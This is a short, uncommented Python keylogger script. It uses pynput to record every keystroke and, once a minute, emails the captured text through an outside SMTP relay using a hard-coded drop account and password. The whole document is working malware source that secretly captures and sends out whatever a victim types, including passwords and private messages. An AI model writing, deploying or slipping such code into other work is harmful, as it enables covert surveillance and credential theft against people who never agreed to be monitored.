import smtplib
import threading
from email.message import EmailMessage

from pynput import keyboard

buffer = []
lock = threading.Lock()


def on_press(key):
    with lock:
        try:
            buffer.append(key.char)
        except AttributeError:
            buffer.append("[%s]" % key)


def flush():
    with lock:
        text = "".join(buffer)
        buffer.clear()
    if text:
        msg = EmailMessage()
        msg["Subject"] = "log"
        msg.set_content(text)
        with smtplib.SMTP_SSL("smtp.mail-relay.net", 465) as s:
            s.login("drop@mail-relay.net", "hunter2")
            s.send_message(msg)
    threading.Timer(60, flush).start()


flush()
with keyboard.Listener(on_press=on_press) as listener:
    listener.join()
